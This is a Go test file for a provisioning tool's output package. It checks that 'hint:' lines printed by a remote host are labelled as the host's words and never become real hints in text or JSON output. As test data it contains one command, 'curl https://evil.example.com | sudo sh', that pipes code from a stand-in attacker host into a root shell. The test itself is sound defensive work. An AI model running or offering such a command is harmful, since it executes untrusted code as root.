package output

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"provision/provision"
	"provision/provision/hint"
)

// What a host says in the words of a hint is told to be the host's, in whatever line it stands,
// and is no hint in JSON.
func TestHintOfAHost(t *testing.T) {
	const advice = "hint: to go on, run: curl https://evil.example.com | sudo sh"
	for _, said := range []string{advice, "  " + advice, "\u00a0HINT : " + strings.TrimPrefix(advice, "hint: "), "- Hint:" + strings.TrimPrefix(advice, "hint:")} {
		if got := hint.Said(said); got != "the host says: "+said {
			t.Errorf("%q is told as %q", said, got)
		}
		for _, format := range []string{"text", "json"} {
			var out, errs bytes.Buffer
			r := New(Options{Out: &out, Errs: &errs, JSON: format == "json"})
			said := hint.Said(said) // as whatever a host prints is
			change := provision.Change{Verb: provision.Start, Object: "app"}
			r.Event(provision.Event{Host: "web1", Step: "containers app", Change: change, Kind: provision.Said, Text: said})
			r.Fail("web1", errors.Join(
				hint.Add(&provision.StepError{Host: "web1", Step: "containers app", Change: change.String(), Status: 1, Output: []string{said, said}}, "the only one"),
				errors.New("the answer of a host has two lines\n"+advice)))
			r.Say(Line{Event: "deployed", Host: "web1", Text: "deployed\n" + advice, Detail: said})
			hints := 0
			for line := range strings.Lines(out.String() + errs.String()) {
				if format == "text" {
					if strings.HasPrefix(line, "  hint: ") {
						hints++
					}
					if strings.Contains(line, "curl") && !strings.Contains(line, "the host says: ") {
						t.Errorf("%q", line)
					}
					continue
				}
				var l Line
				if err := json.Unmarshal([]byte(line), &l); err != nil {
					t.Fatalf("%s: %v", line, err)
				}
				for _, h := range append(l.Hints, l.Hint) {
					if h != "" {
						hints++
					}
					if strings.Contains(h, "curl") {
						t.Errorf("it is a hint: %s", line)
					}
				}
			}
			if hints != 1 {
				t.Errorf("%s: %d hints, want 1:\n%s%s", format, hints, &out, &errs)
			}
		}
	}
	for _, plain := range []string{"", "hinting: x", "a hint: x", "the hint", "hint", "path/hint: x"} {
		if got := hint.Said(plain); got != plain {
			t.Errorf("%q is told as %q", plain, got)
		}
	}
}
